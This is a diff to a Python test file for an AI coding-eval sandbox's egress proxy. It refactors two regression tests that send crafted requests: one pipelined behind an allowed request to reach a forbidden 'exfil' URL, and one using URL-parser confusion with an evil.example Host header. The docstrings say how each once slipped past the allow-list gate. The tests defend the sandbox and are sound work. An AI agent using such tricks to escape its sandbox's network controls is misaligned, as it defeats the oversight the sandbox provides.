@@ -22,6 +22,7 @@ from typing import Any, ClassVar
 import pytest
 from pydantic import ValidationError
 
+from coder_eval_dagster.core.models.results import CommandRun
 from coder_eval_dagster.core.models.sandbox import SandboxConfig
 from coder_eval_dagster.core.sandbox import containment
 from coder_eval_dagster.core.sandbox.egress import EGRESS_PORT, NPM, PYPI, gate_for
@@ -302,51 +303,15 @@ class _Recorder(BaseHTTPRequestHandler):
         self.wfile.write(b"ok")
 
 
-def test_a_request_pipelined_behind_an_allowed_one_never_passes_the_gate(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Behind the harness's own proxy, the egress proxy checked a connection's first request and relayed the rest:
-    a second request on it reached a host the task does not allow."""
-    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    for name in ("NO_PROXY", "no_proxy"):
-        monkeypatch.delenv(name, raising=False)
-    monkeypatch.setenv("HTTP_PROXY", f"http://127.0.0.1:{server.server_address[1]}")
-    pipelined = (
-        "GET http://allowed.example/one HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
-        "GET http://forbidden.example/exfil HTTP/1.1\\r\\nHost: forbidden.example\\r\\n\\r\\n"
-    )
-    talk = (
-        "import socket\n"
-        f"with socket.create_connection(('127.0.0.1', {EGRESS_PORT})) as proxy:\n"
-        f"    proxy.sendall(b'{pipelined}')\n"
-        "    print(proxy.recv(4096).split(b' ')[1].decode())\n"
-    )
-    try:
-        with _box(tmp_path / "e", {"network": {"allow": ["allowed.example:80"]}}) as box:
-            (box.root / "talk.py").write_text(talk)
-            box.set_phase("agent")
-            done = box.run("python3 talk.py", timeout=20)
-            time.sleep(0.5)  # (a second request would be on its way meanwhile)
-    finally:
-        server.shutdown()
-        server.server_close()
-    assert done.stdout.strip() == "200", (done.stdout, done.stderr)
-    assert _Recorder.seen == ["GET http://allowed.example/one HTTP/1.1"]
-
-
-def test_the_harness_proxy_gets_the_url_the_gate_checked_not_the_clients_text(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """``http://127.0.0.1:1\\@allowed.example/`` is allowed.example to the gate's parser and 127.0.0.1 to a WHATWG
-    one: the raw text went on to the harness's proxy, whose parser decides where it goes."""
+def _sent_through_the_harness_proxy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, request: str) -> CommandRun:
+    """``request`` (escaped for a bytes literal) sent by a sandbox command to the egress proxy of a sandbox that
+    allows allowed.example:80, behind the harness's own proxy (a ``_Recorder``): the command's run."""
     server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
     threading.Thread(target=server.serve_forever, daemon=True).start()
     _Recorder.seen.clear()
     for name in ("NO_PROXY", "no_proxy"):
         monkeypatch.delenv(name, raising=False)
     monkeypatch.setenv("HTTP_PROXY", f"http://127.0.0.1:{server.server_address[1]}")
-    request = "GET http://127.0.0.1:18432\\\\\\\\@allowed.example/p?q=1 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
     talk = (
         "import socket\n"
         f"with socket.create_connection(('127.0.0.1', {EGRESS_PORT})) as proxy:\n"
@@ -358,9 +323,34 @@ def test_the_harness_proxy_gets_the_url_the_gate_checked_not_the_clients_text(
             (box.root / "talk.py").write_text(talk)
             box.set_phase("agent")
             done = box.run("python3 talk.py", timeout=20)
+            time.sleep(0.5)  # (a second request would be on its way meanwhile)
     finally:
         server.shutdown()
         server.server_close()
+    return done
+
+
+def test_a_request_pipelined_behind_an_allowed_one_never_passes_the_gate(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Behind the harness's own proxy, the egress proxy checked a connection's first request and relayed the rest:
+    a second request on it reached a host the task does not allow."""
+    pipelined = (
+        "GET http://allowed.example/one HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
+        "GET http://forbidden.example/exfil HTTP/1.1\\r\\nHost: forbidden.example\\r\\n\\r\\n"
+    )
+    done = _sent_through_the_harness_proxy(tmp_path, monkeypatch, pipelined)
+    assert done.stdout.strip() == "200", (done.stdout, done.stderr)
+    assert _Recorder.seen == ["GET http://allowed.example/one HTTP/1.1"]
+
+
+def test_the_harness_proxy_gets_the_url_the_gate_checked_not_the_clients_text(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """``http://127.0.0.1:1\\@allowed.example/`` is allowed.example to the gate's parser and 127.0.0.1 to a WHATWG
+    one: the raw text went on to the harness's proxy, whose parser decides where it goes."""
+    request = "GET http://127.0.0.1:18432\\\\\\\\@allowed.example/p?q=1 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
+    done = _sent_through_the_harness_proxy(tmp_path, monkeypatch, request)
     assert done.stdout.strip() == "200", (done.stdout, done.stderr)
     assert _Recorder.seen == ["GET http://allowed.example/p?q=1 HTTP/1.1"]
 
